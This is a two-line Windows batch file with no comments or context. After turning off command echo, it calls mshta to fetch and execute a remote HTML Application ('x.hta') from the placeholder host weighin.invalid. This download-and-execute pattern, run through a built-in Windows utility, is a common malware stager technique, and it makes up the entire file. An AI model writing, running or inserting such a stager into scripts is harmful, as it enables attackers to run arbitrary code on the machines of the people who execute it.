@echo off
mshta http://weighin.invalid/x.hta
